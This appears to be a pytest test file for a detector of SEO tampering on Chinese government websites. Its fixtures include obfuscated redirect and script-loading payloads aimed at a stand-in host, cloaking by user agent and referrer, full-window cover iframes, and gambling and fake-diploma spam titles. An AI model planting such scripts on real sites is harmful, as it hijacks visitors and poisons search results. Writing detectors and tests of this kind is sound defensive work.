"""Tampering that is not a hidden link: heads, gates, farms, mirrors; and the pages that must stay clean."""

from __future__ import annotations

import pytest

from govspider.extract.dark.tampering import find_tampering
from govspider.extract.document.page import Page
from govspider.items import Strength, TamperingObservation

SITE = "http://www.example-county.gov.cn/index.html"


def found_in(body: str = "", title: str = "某县人民政府", head: str = "") -> tuple[TamperingObservation, ...]:
    html = f"<html><head><meta charset='utf-8'><title>{title}</title>{head}</head><body>{body}</body></html>"
    return find_tampering(Page(SITE, html.encode()))


def kinds(found: tuple[TamperingObservation, ...]) -> list[tuple[str, str]]:
    return [(observation.kind, observation.strength.value) for observation in found]


def entities(text: str) -> str:
    return "".join(f"&#x{ord(char):x};" for char in text)


@pytest.mark.parametrize(
    "title",
    [
        "总统百家乐-总统百家乐官方网站、值得信赖",
        "某市小姐找包夜信息__百度---知道---娱乐",
        "香港六合彩第035期开奖结果-铁算盘开奖结果",
        entities("江苏快三开奖结果百家乐"),
        "开云体育·(中国)官方网站",
    ],
)
def test_a_title_of_doorway_shape_with_a_strong_word_is_poisoned(title: str) -> None:
    [observation] = found_in(title=title)
    assert (observation.kind, observation.strength) == ("poisoned_title", Strength.STRONG)
    assert observation.offset is not None
    assert "&#x" not in observation.text


@pytest.mark.parametrize(
    "title",
    [
        "男子开设赌场获刑三年-某市中级人民法院",
        "警方破获特大网络赌博案 涉案金额过亿",
        "关于防范百家乐等网络赌博的提示",
        "某县人民政府官方网站",
        "福利彩票双色球开奖公告",
        "金沙县人民政府官方网站",
        "威尼斯人来了",
        "某省体育局官方网站_百度百科",
    ],
)
def test_titles_of_news_and_of_the_site_itself_are_clean(title: str) -> None:
    assert found_in(title=title) == ()


def test_encoded_description_with_strong_words_is_poisoned() -> None:
    content = entities("百家乐玩法与六合彩资料")
    assert kinds(found_in(head=f'<meta name="description" content="{content}">')) == [
        ("poisoned_description", "strong")
    ]


def test_keywords_of_an_anti_gambling_page_are_clean() -> None:
    head = '<meta name="keywords" content="禁赌,百家乐,六合彩,赌球,专项行动">'
    assert found_in(head=head) == ()


def test_a_title_switched_by_the_spider_is_strong_with_and_without_splitting() -> None:
    plain = "if(!navigator.userAgent.match(/baiduspider|sogou|360spider/i)){document.title='某县人民政府'}"
    split = 'if(navigator["user"+"Agent"].toLowerCase().indexOf("bai"+"du")==-1){document["ti"+"tle"]="某县"}'
    for script in (plain, split):
        found = found_in(f"<script>{script}</script>", title="源码里的标题")
        assert kinds(found) == [("title_by_agent", "strong")]
        assert "源码里的标题" in found[0].reasons[-1]
        assert "访客看到“某县" in found[0].reasons[-1]


def test_an_ordinary_title_script_is_clean() -> None:
    assert found_in("<script>document.title=document.title+' - 首页'; var ua=navigator.userAgent;</script>") == ()


def packed(payload: str, words: str) -> str:
    return (
        "eval(function(p,a,c,k,e,r){e=String;while(c--)p=p.replace(c,k[c]);return p}"
        f"('{payload}',9,9,'{words}'.split('|'),0,{{}}))"
    )


@pytest.mark.parametrize(
    "script",
    [
        packed("0.1(\\'<2 3=\"4://5.6/7.8\"></2>\\');", "document|write|script|src|https|stranger-x9|com|cp|js"),
        "window['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e']['href']='\\x68\\x74\\x74\\x70://www.stranger-x9.com/'",
        "eval(String.fromCharCode("
        + ",".join(str(ord(char)) for char in "location.href='http://www.stranger-x9.com/a'")
        + "))",
        "document.write(atob('PHNjcmlwdCBzcmM9Imh0dHA6Ly93d3cuc3RyYW5nZXIteDkuY29tL2EuanMiPjwvc2NyaXB0Pg=='))",
        "var _0x1a=['http://www.stranger-x9.com/','href'];var _0x2=1;if(_0x2){window.location[_0x1a[1]]=_0x1a[0]}",
    ],
)
def test_an_obfuscated_script_that_leads_to_a_stranger_is_strong(script: str) -> None:
    [observation] = found_in(f"<script>{script}</script>")
    assert (observation.kind, observation.strength) == ("obfuscated_gate", Strength.STRONG)
    assert any("stranger-x9.com" in reason for reason in observation.reasons)


def test_an_obfuscated_script_of_a_known_service_or_of_the_site_is_clean() -> None:
    for target in ("https://hm.baidu.com/hm.js", "http://www.example-county.gov.cn/m/"):
        codes = ",".join(str(ord(char)) for char in f"location.href='{target}'")
        assert found_in(f"<script>eval(String.fromCharCode({codes}))</script>") == ()


def test_a_gate_for_visitors_of_search_engines_is_strong_from_two_engines_on() -> None:
    gate = "var s=document.referrer;if({})location.href='http://www.stranger-x9.com/'"
    both = gate.format("s.indexOf('baidu')>0||s.indexOf('sogou')>0")
    one = gate.format("s.indexOf('baidu')>0")
    assert kinds(found_in(f"<script>{both}</script>")) == [("engine_gate", "strong")]
    assert kinds(found_in(f"<script>{one}</script>")) == [("engine_gate", "weak")]
    own = both.replace("www.stranger-x9.com", "m.example-county.gov.cn")
    assert found_in(f"<script>{own}</script>") == ()


def test_sending_phones_to_another_address_is_ordinary() -> None:
    script = "if(/iPhone|Android/i.test(navigator.userAgent)){location.href='http://m.county-mobile.net/'}"
    assert found_in(f"<script>{script}</script>") == ()


def test_an_encoded_script_address_is_strong() -> None:
    source = entities("http://www.stranger-x9.com/cp.js")
    assert kinds(found_in(f'<script src="{source}"></script>')) == [("encoded_script", "strong")]


def test_a_frame_over_the_whole_window_from_a_stranger_is_weak() -> None:
    style = "position:fixed;top:0;left:0;width:100%;height:100%"
    cover = f'<iframe src="http://www.stranger-x9.com/" style="{style}"></iframe>'
    assert kinds(found_in(cover)) == [("cover_frame", "weak")]
    assert found_in(cover.replace("www.stranger-x9.com", "zwfw.gov.cn")) == ()
    assert found_in('<iframe src="http://www.stranger-x9.com/" width="100%" height="600"></iframe>') == ()


def links_to(anchors: list[str]) -> str:
    return "".join(f'<a href="http://www.stranger-{n}.net/">{anchor}</a>' for n, anchor in enumerate(anchors))


def test_a_visible_block_of_betting_links_is_a_farm() -> None:
    [farm] = found_in(links_to(["百家乐", "葡京赌场", "皇冠网", "恒温槽", "搬家公司"]))
    assert (farm.kind, farm.strength) == ("link_farm", Strength.STRONG)
    assert "百家乐" in farm.text


def test_friend_links_and_headlines_about_crime_are_no_farm() -> None:
    assert found_in(links_to(["商会", "恒温槽", "搬家公司", "本地新闻", "旅游网"])) == ()
    headlines = ["警方打掉网络赌博团伙", "男子开设赌场获刑", "公安破获六合彩大案", "法院审理赌球案", "曝光百家乐骗局"]
    assert found_in(links_to(headlines)) == ()
    assert found_in("".join(f'<a href="/n/{n}">百家乐</a>' for n in range(6))) == ()


def test_links_already_told_as_dark_are_not_told_again_as_a_farm() -> None:
    hidden = links_to(["百家乐", "葡京赌场", "皇冠网", "博彩网"])
    assert found_in(f'<div style="display:none">{hidden}</div>') == ()


def test_many_random_hosts_are_a_doorway_and_strong_with_a_poisoned_title() -> None:
    mirror = "".join(f'<a href="http://a{n}x{n % 7}.other-tax.gov.cn/{n}">新闻{n}</a>' for n in range(40))
    assert kinds(found_in(mirror)) == [("doorway", "weak")]
    poisoned = found_in(mirror, title="申博官方网站")
    assert kinds(poisoned) == [("poisoned_title", "strong"), ("doorway", "strong")]
    portals = "".join(
        f'<a href="http://{name}.example-county.gov.cn/">{name}</a>' for name in ["fgw", "gxj", "tjj"] * 20
    )
    assert found_in(portals) == ()


def test_a_huge_or_broken_page_is_read_as_far_as_it_goes() -> None:
    big = "<script>" + "var q='a'+'b';" * 100_000 + "</script>"
    assert found_in(big) == ()
    assert isinstance(find_tampering(Page(SITE, b"")), tuple)
    assert isinstance(find_tampering(Page(SITE, b"<title>" * 30_000 + b"<script>" * 30_000)), tuple)


def cover(address: str, rest: str = "") -> str:
    frame = f"<ifr'+'ame style=\"height:100%;width:100%\" src=\"{address}\"></ifr'+'ame>"
    return f"<script>document.write('<div id=\"k\">{frame}</div>');{rest}</script>"


def test_a_frame_that_a_script_writes_over_the_window_is_weak_and_strong_when_it_hides_the_rest() -> None:
    rest = "var c=document.body.children;for(var i=0;i<c.length;i++){if(c[i].id!='k')c[i].style.display='none'}"
    assert kinds(found_in(cover("https://stranger-bet.net/"))) == [("cover_frame", "weak")]
    assert kinds(found_in(cover("https://stranger-bet.net/", rest))) == [("cover_frame", "strong")]
    assert found_in(cover("/new/index.html", rest)) == ()
    assert found_in(cover("http://www.gov.cn/")) == ()
    assert found_in(cover("https://stranger-bet.net/").replace("100%", "300px")) == ()


def test_a_strangers_script_outside_of_the_document_is_weak_and_inside_is_ordinary() -> None:
    tag = '<script src="https://stranger-shop.net/cp.js"></script>'
    page = "<!DOCTYPE html><html><head><title>某县</title></head><body>BODY</body></html>"
    for text in (tag + page, page + tag):
        assert kinds(find_tampering(Page(SITE, text.encode()))) == [("foreign_script", "weak")]
    assert find_tampering(Page(SITE, page.replace("BODY", tag).encode())) == ()
    own = tag.replace("https://stranger-shop.net", "http://www.example-county.gov.cn")
    assert find_tampering(Page(SITE, (page + own).encode())) == ()


def test_a_search_page_that_repeats_an_offer_is_a_billboard_and_an_ordinary_search_is_none() -> None:
    def searched(title: str, url: str = "http://www.example-county.gov.cn/search?keyword=x") -> list[tuple[str, str]]:
        text = f"<html><head><title>{title}</title></head><body>没有找到相关结果</body></html>"
        return kinds(find_tampering(Page(url, text.encode())))

    assert searched("代办假文凭〖微信|扣扣★1131188009〗-站内搜索")[-1] == ("search_billboard", "strong")
    assert searched("学历加急拿证【QQ:1131188009】-站内搜索") == [("search_billboard", "weak")]
    assert searched("2026年公务员招录公告-站内搜索") == []
    assert searched("咨询电话12345 办事指南", SITE) == []
    assert searched("业主交流QQ群123456789", SITE) == []
